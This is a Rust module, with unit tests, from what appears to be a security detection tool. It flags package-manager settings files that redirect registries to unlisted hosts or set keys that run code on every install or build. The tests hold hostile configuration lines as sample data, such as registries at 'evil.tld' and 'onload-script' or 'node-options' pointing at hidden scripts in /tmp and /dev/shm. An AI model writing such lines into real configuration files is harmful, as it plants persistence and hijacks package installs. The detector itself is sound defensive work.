//! Package managers' settings files (`~/.npmrc`, `pip.conf`, `.cargo/config.toml`,
//! `.yarnrc.yml`…, listed in `assets/detect/canary.toml`): a line that points
//! where packages come from at a host off the allowlist, or sets a key whose
//! value runs on every run (`onload-script`, `yarnPath`, `rustc-wrapper`), is
//! persistence; every later install or build obeys it.

use crate::detect::hit::Hit;
use crate::detect::network::{classify, host_of, HostClass};
use crate::detect::rules::id;
use crate::detect::taxonomy::Taxonomy;
use crate::model::Severity;

/// CMD-TRACE-002 (high) for `content` written to the settings file `path`.
pub(super) fn hit(path: &str, content: Option<&str>, tax: &Taxonomy, ev: &str) -> Option<Hit> {
    let why = content.and_then(|c| c.lines().find_map(|l| line(l, tax)))?;
    Some(
        Hit::new(
            id::CMD_PERSISTENCE,
            format!("writes {path}, a package manager's settings: {why}"),
            ev,
        )
        .severity(Severity::High)
        .key(&format!("pkgconf|{path}|{ev}")),
    )
}

/// Why one `key = value` / `key: value` / `key "value"` line matters, if it does.
fn line(l: &str, tax: &Taxonomy) -> Option<String> {
    let l = l.trim();
    if l.is_empty() || l.starts_with(['#', ';', '[', '/']) {
        return None;
    }
    let cut = l.find(['=', ':', ' ', '\t'])?;
    // `@scope:registry=URL`: the key is what follows the scope
    let (key, value) = if l.starts_with('@') {
        let (k, v) = l.split_once('=')?;
        (k.rsplit(':').next().unwrap_or(k), v)
    } else {
        (&l[..cut], &l[cut + 1..])
    };
    let key = key.trim().trim_matches('"').to_ascii_lowercase();
    let value = value.trim_start_matches(['=', ':', ' ', '\t']).trim();
    if value.is_empty() {
        return None;
    }
    if tax.pkg_config_load_keys.contains(&key) {
        return Some(format!("{key} runs {value} on every run"));
    }
    if tax.pkg_config_exec_keys.contains(&key) {
        let v = value.trim_matches(['"', '\'']);
        let untrusted = crate::detect::evasion::data()
            .is_some_and(|d| v.split([' ', '=', ',']).any(|w| d.untrusted(w)));
        if v.contains("://") || untrusted {
            return Some(format!("{key} runs {v} on every run"));
        }
        return super::risky(v, tax, 1).map(|why| format!("{key} runs a command that {why}"));
    }
    if !tax
        .pkg_config_index_keys
        .iter()
        .any(|k| key.ends_with(k.as_str()))
    {
        return None;
    }
    let url = value.trim_matches(['"', '\'', '[', ']']);
    let url = url
        .split_once("+")
        .map(|(_, u)| u)
        .filter(|u| u.contains("://"))
        .unwrap_or(url);
    let host = host_of(url.split([',', ' ']).find(|u| u.contains("://"))?)?;
    matches!(
        classify(&host, tax),
        HostClass::Unlisted { .. } | HostClass::Bad
    )
    .then(|| format!("{key} sends every later install to {host}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::taxonomy::DetectionConfig;

    fn why(path: &str, content: &str) -> Option<String> {
        let t = Taxonomy::load(&DetectionConfig::default()).unwrap();
        assert!(t.pkg_config_files.matches(path).is_some(), "{path}");
        hit(path, Some(content), &t, "ev").map(|h| h.message)
    }

    #[test]
    fn registries_off_the_allowlist_and_code_keys_are_persistence() {
        assert!(why("/home/u/.npmrc", "registry=http://203.0.113.9:4873/\n").is_some());
        assert!(why("/home/u/.npmrc", "@acme:registry=https://npm.evil.tld/\n").is_some());
        assert!(why("/home/u/.npmrc", "onload-script=/tmp/.o.js\n").is_some());
        assert!(why(
            "/home/u/.config/pip/pip.conf",
            "[global]\nindex-url = https://evil.tld/simple\n"
        )
        .is_some());
        assert!(why(
            "/home/u/.cargo/config.toml",
            "[source.m]\nregistry = \"sparse+https://evil.tld/idx/\"\n"
        )
        .is_some());
        assert!(why("/home/u/p/.yarnrc.yml", "yarnPath: /tmp/.y.cjs\n").is_some());
        assert!(why("/home/u/.npmrc", "node-options=--require /dev/shm/h.js\n").is_some());
    }

    #[test]
    fn tokens_and_default_registries_are_not() {
        assert_eq!(
            why(
                "/home/u/.npmrc",
                "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nregistry=https://registry.npmjs.org/\n"
            ),
            None
        );
        assert_eq!(
            why(
                "/home/u/.config/pip/pip.conf",
                "[global]\ntimeout = 60\nindex-url = https://pypi.org/simple\n"
            ),
            None
        );
        assert_eq!(
            why("/home/u/p/.npmrc", "save-exact=true\nengine-strict=true\n"),
            None
        );
        assert_eq!(
            why(
                "/home/u/p/.yarnrc.yml",
                "yarnPath: .yarn/releases/yarn-4.1.cjs\n"
            ),
            None
        );
        assert_eq!(
            why(
                "/home/u/p/.cargo/config.toml",
                "[target.x86_64-unknown-linux-gnu]\nlinker = \"clang\"\n"
            ),
            None
        );
    }
}
